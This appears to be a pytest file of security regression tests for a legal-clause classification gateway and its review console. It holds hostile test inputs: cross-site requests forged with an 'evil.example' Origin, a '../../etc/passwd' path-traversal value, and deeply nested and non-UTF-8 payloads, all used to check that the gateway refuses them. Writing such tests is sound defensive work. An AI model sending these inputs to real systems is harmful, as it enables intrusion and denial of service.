def test_writes_are_refused_without_a_key_unless_the_operator_opts_in(tmp_path, caplog):
    """Attack: with no key configured, PUT /v1/routing, POST /v1/feedback/export and POST
    /ui/documents worked for anyone."""
    caplog.set_level(logging.WARNING)
    with _console(tmp_path, allow_unauthenticated_writes=False) as client:
        for method, path, options in WRITES:
            answer = client.request(method, path, **options)
            assert answer.status_code == 403, (path, answer.status_code, answer.text)
            assert (
                "LEXFLOW_API_KEY" in answer.json()["error"] and "ALLOW_UNAUTHENTICATED_WRITES" in answer.json()["error"]
            )
        assert client.get("/v1/routing").json()["revision"] == 0 and not (tmp_path / "data").exists()
        _nothing_stored(client)
        assert client.post("/v1/classify", json={"texts": STAND_IN_GOVERNING}).status_code == 200  # reads stay open
    assert "every write (feedback, export, routing, the review console) is refused" in caplog.text
    caplog.clear()
    with _console(tmp_path / "open", allow_unauthenticated_writes=True) as client:
        for method, path, options in WRITES:
            assert client.request(method, path, **options).status_code not in (401, 403), path
    assert "anyone who can reach this gateway can send feedback" in caplog.text
    with _console(tmp_path / "keyed", api_key=KEY, allow_unauthenticated_writes=True) as client:
        for method, path, options in WRITES:  # the opt-in never weakens a configured key
            assert client.request(method, path, **options).status_code == 401, path


def test_a_cross_site_page_cannot_post_into_the_console(tmp_path):
    """Attack: `Content-Type: text/plain` from `Origin: http://evil.example` stored a document (a
    "simple" request, which a browser sends from any page without asking). Refused here even on a
    gateway that lets anyone write; the console's own requests pass."""
    with _console(tmp_path, allow_unauthenticated_writes=True) as client:
        body = b"1. Governed by the laws of Delaware."
        evil = {"Origin": "http://evil.example"}
        for headers in (
            {"Content-Type": "text/plain", **evil},
            {"Content-Type": "text/plain"},
            {"Content-Type": "application/x-www-form-urlencoded"},
            {"Content-Type": "multipart/form-data; boundary=x"},
            {},  # a Blob without a type: no Content-Type at all
            {**UPLOAD, **evil},
            {**UPLOAD, "Origin": "null"},
            {**UPLOAD, "Sec-Fetch-Site": "cross-site"},
        ):
            answer = client.post("/ui/documents?name=a.txt", content=body, headers=headers)
            assert answer.status_code in (403, 415), (headers, answer.status_code)
        json_body = {"prediction_id": "x", "label": "governing_law"}
        assert (
            client.post(
                "/ui/feedback", content=json.dumps(json_body), headers={"Content-Type": "text/plain"}
            ).status_code
            == 415
        )
        assert client.post("/ui/queue/next", headers={**REVIEWER, **evil}).status_code == 403
        _nothing_stored(client)
        same = {**UPLOAD, "Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"}
        assert client.post("/ui/documents?name=a.txt", content=body, headers=same).status_code == 200
    with _console(tmp_path / "cors", allow_unauthenticated_writes=True, cors_origins=["https://app.example"]) as client:
        trusted = {**UPLOAD, "Origin": "https://app.example"}
        assert client.post("/ui/documents?name=a.txt", content=body, headers=trusted).status_code == 200


# -- the review queue, the reports, the models page --------------------------------------------------


def test_the_queue_can_keep_to_traffic_that_had_the_key(tmp_path):
    """Attack: 8 anonymous batches took 10 of 10 reviewers' next records."""
    settings = {"api_key": KEY, "review_queue_traffic": "authenticated"}
    key = {"X-API-Key": KEY}
    with _console(tmp_path, **settings) as client:
        flood = client.post("/v1/classify", json={"texts": [f"An unclear clause {i}." for i in range(40)]})
        predict = client.post("/v1/models/lexflow:predict", json={"instances": ["Another unclear clause."]})
        assert flood.status_code == 200 and predict.status_code == 200
        keyed = client.post("/v1/classify", json={"texts": STAND_IN_GOVERNING}, headers=key).json()["predictions"][0]
        uploaded = _upload(client, "1. Fees. All fees are payable within thirty days of the invoice date.", headers=key)
        assert uploaded.status_code == 200
        offered = set()
        for i in range(3):
            item = client.post("/ui/queue/next", headers={"X-Reviewer": f"reviewer-{i:04d}", **key})
            found = re.search(r'data-prediction-id="([^"]+)"', item.text)
            offered.add(found.group(1) if found else None)
        document_prediction = re.search(r'data-prediction-id="([^"]+)"', uploaded.text).group(1)
        assert offered == {keyed["prediction_id"], document_prediction, None}
        assert "0 reviewed of 2" in item.text
        with client.app.state.gateway.store.session() as session:
            assert session.query(PredictionRow).filter(PredictionRow.authenticated.is_(True)).count() == 2


def test_skipping_an_unknown_record_is_a_404(tmp_path):
    with _console(tmp_path) as client:
        (prediction,) = client.post("/v1/classify", json={"texts": [STAND_IN_GOVERNING]}).json()["predictions"]
        unknown = client.post(f"/ui/queue/{'0' * 36}/skip", headers=REVIEWER)
        assert unknown.status_code == 404 and "no prediction" in unknown.json()["error"]
        held = client.post("/ui/queue/next", headers={"X-Reviewer": "reviewer-two"})
        assert prediction["prediction_id"] in held.text
        taken = client.post(f"/ui/queue/{prediction['prediction_id']}/skip", headers=REVIEWER)
        assert taken.status_code == 409  # another reviewer holds it: not skipped away from them


@pytest.mark.parametrize(
    "content",
    [
        '{"drifted": true, "current_rows": null, "measures": null}',
        '{"drifted": false, "report": "../../etc/passwd"}',
        '{"drifted": true, "measures": [1, 2]}',
        '{"drifted": true, "generated_at": {"a": 1}}',
        "[" * 100_000,
        "\udcff not utf-8",
    ],
)
def test_a_malformed_drift_verdict_is_skipped_with_a_log_line(tmp_path, caplog, content):
    """Attack: a `drift-live.json` with null fields turned /metrics, /ui/models and /v1/reports into 500s."""
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "drift-live.json").write_bytes(content.encode("utf-8", "surrogateescape"))
    caplog.set_level(logging.WARNING)
    with _console(tmp_path, reports_dir=reports) as client:
        for _ in range(2):
            assert client.get("/metrics").status_code == 200
            models = client.get("/ui/models")
            assert models.status_code == 200 and "No live drift report yet" in models.text
            listed = client.get("/v1/reports")
            assert listed.status_code == 200 and listed.json()["live_drift"] is None
    warnings = [r for r in caplog.records if "not a readable drift verdict" in r.getMessage()]
    assert len(warnings) == 1  # once per version of the file, not at every scrape


def test_the_models_page_scans_no_table_and_links_its_report_for_the_script(tmp_path):
    """Attack: /ui/models counted every prediction and read every correction at each view."""
    from sqlalchemy import event

    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "drift-live.json").write_text(json.dumps({"drifted": False, "report": "drift-live-1.html"}))
    with _console(tmp_path, reports_dir=reports, metrics_cache_seconds=60, api_key=KEY) as client:
        ids = [
            p["prediction_id"]
            for p in client.post("/v1/classify", json={"texts": [STAND_IN_GOVERNING] * 3}).json()["predictions"]
        ]
        for prediction_id in ids:
            client.post(
                "/v1/feedback",
                json={"prediction_id": prediction_id, "label": "termination"},
                headers={"X-API-Key": KEY},
            )
        client.get("/metrics")  # the collector's snapshot: taken here, not per view
        statements = []
        engine = client.app.state.gateway.store.engine
        listener = lambda *args: statements.append(args[2])  # noqa: E731
        event.listen(engine, "before_cursor_execute", listener)
        try:
            page = client.get("/ui/models").text
        finally:
            event.remove(engine, "before_cursor_execute", listener)
    assert "live accuracy 0.0%" in page and "3 predictions" in page
    assert statements and not any("FROM predictions" in s for s in statements), statements
    assert all("created_at >=" in s for s in statements if "FROM feedback" in s), statements
    assert '<a class="report" href="/v1/reports/drift-live-1.html">' in page  # console.js sends the key


def test_the_console_routes_are_in_the_openapi_schema(tmp_path):
    """The fuzzing (test_fuzz.py) drives the operations the schema lists: the console's were not."""
    with _console(tmp_path) as client:
        paths = client.get("/openapi.json").json()["paths"]
    for path, method in [
        ("/ui/documents", "post"),
        ("/ui/feedback", "post"),
        ("/ui/queue/next", "post"),
        ("/ui/queue/{prediction_id}/answer", "post"),
        ("/ui/queue/{prediction_id}/skip", "post"),
        ("/ui/documents/{document_id}/view", "get"),
        ("/ui/documents/{document_id}/export.{fmt}", "get"),
        ("/ui/models", "get"),
        ("/ui/review", "get"),
    ]:
        assert method in paths.get(path, {}), path
    body = paths["/ui/documents"]["post"]["requestBody"]["content"]
    assert "application/octet-stream" in body and "text/plain" not in body
